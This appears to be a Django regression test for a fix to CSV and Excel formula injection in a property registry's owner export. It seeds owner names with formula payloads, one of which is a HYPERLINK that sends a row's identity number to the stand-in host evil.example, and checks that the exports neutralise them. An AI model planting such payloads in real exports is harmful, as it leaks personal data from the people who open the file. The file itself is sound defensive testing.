"""Issue 14, finding 8: formula injection through the registry export. An owner named ``=1+2``
or ``=HYPERLINK(...)`` (pointing outside with the row's identity number) came back as a live
formula in export.xlsx and export.csv. Such cells are now written as inert text."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from portal.organisations.models import OrgKind
from property.registry.models import OwnerParty, Person
from tests.factories import add_units, staff

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?id="&G2,"查看")'


def poisoned(estate):
    """Owners whose names are formulas (as an import before the fix let in)."""
    add_units(estate, [("1-101", "88.50", "甲"), ("1-102", "70.00", "乙+丙")])
    Person.objects.filter(name="甲").update(name="=1+2")
    Person.objects.filter(name="乙").update(name=HYPERLINK)
    Person.objects.filter(name="丙").update(name="@SUM(1,2)")
    OwnerParty.objects.filter(label="甲").update(label="=1+2")


def bureau_download(client, world, fmt):
    client.force_login(staff(OrgKind.BUREAU, world.city, organisation=world.bureau))
    response = client.post(reverse("registry:estate_export", args=[world.estates[0].code, fmt]))
    assert response.status_code == 200
    return response


def test_xlsx_export_has_no_formula_cells(client, world):
    poisoned(world.estates[0])
    book = openpyxl.load_workbook(io.BytesIO(bureau_download(client, world, "xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "live formula in the export"
    names = [c.value for c in cells if c.column_letter == "F"]
    assert "'=1+2" in names
    assert any(n.startswith("'" + HYPERLINK) for n in names)


def test_csv_export_cells_cannot_start_a_formula(client, world):
    poisoned(world.estates[0])
    body = bureau_download(client, world, "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    for row in rows:
        for value in row:
            assert value[:1] not in {"=", "+", "-", "@", "\t", "\r"}, value
    owners = [row[5] for row in rows[1:]]
    assert owners == ["'=1+2", f"'{HYPERLINK};@SUM(1,2)"]
    # the areas are numbers and stay numbers
    assert [row[3] for row in rows[1:]] == ["88.50", "70.00"]
